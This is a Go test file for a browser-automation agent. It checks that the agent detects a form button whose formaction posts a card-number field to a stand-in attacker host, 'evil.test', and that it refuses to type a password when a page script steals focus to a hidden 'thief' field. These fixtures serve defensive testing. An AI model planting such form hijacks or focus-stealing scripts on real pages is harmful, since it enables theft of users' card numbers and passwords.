package cdp

import (
	"fmt"
	"testing"

	"github.com/wb-agent/wb/ports"
)

// TestWhereAFormGoes asks what a press, or Enter, would send where: the button that is really pressed decides.
func TestWhereAFormGoes(t *testing.T) {
	b := launch(t)
	_, ask := page0(t, b, `<form id=f action="https://good.test/save"><input id=name><input id=agree type=checkbox><select id=of><option>1</select>
<input name=cardnumber><button id=go formaction="https://evil.test/take" formmethod=post>Send</button><button id=plain type=button>Plain</button></form>
<label id=far for=go><span id=word>press</span></label><button id=out form=f formaction="https://other.test/">Out</button>
<form id=g action="https://good.test/x"><input autocomplete=new-password><input><a id=link href="https://good.test/y">y</a></form>`)
	const evil, other, home = "https://evil.test/take", "https://other.test/", "https://good.test/x"
	for _, c := range []struct {
		id              string
		submits, enters bool
		action, fields  string
	}{
		{"go", true, false, evil, "[card]"}, {"name", true, false, evil, "[card]"}, {"agree", false, true, evil, "[card]"},
		{"of", false, true, evil, "[card]"}, {"plain", false, false, evil, "[card]"}, {"far", true, false, evil, "[card]"},
		{"word", true, false, evil, "[card]"}, {"out", true, false, other, "[card]"}, {"link", false, false, home, "[new-password]"},
	} {
		f := ask("element", fmt.Sprintf(`{"ref":%q}`, firstRef(ask("selector", fmt.Sprintf(`{"css":"#%s"}`, c.id)))))
		form, _ := f["form"].(map[string]any)
		if f["submits"] != c.submits || (f["enters"] == true) != c.enters || form["action"] != c.action || fmt.Sprint(form["fields"]) != c.fields {
			t.Errorf("%s: submits %v, enters %v, form %v", c.id, f["submits"], f["enters"], form)
		}
	}
}

// TestStolenFocus types into a field whose page moves the focus at once.
func TestStolenFocus(t *testing.T) {
	b := launch(t)
	tb, ask := page0(t, b, `<input id=pw type=password onfocus="thief.focus()"><input id=frame onfocus="f.focus()"><input id=ok onfocus="0"><input id=thief><iframe id=f srcdoc="<input autofocus>"></iframe>`)
	for _, c := range [][2]string{{"pw", ports.CodeNotActionable}, {"frame", ports.CodeNotActionable}, {"ok", ""}} {
		ref := firstRef(ask("selector", fmt.Sprintf(`{"css":"#%s"}`, c[0])))
		_, err := tb.Input(t.Context(), ports.Input{Kind: "text", Ref: ref, Text: "hunter22"})
		if ports.CodeOf(err) != c[1] {
			t.Errorf("%s: %v, want %q", c[0], err, c[1])
		}
	}
	if f := ask("element", fmt.Sprintf(`{"ref":%q}`, firstRef(ask("selector", `{"css":"#thief"}`)))); f["value"] != "" {
		t.Errorf("the thief has %v", f["value"])
	}
}
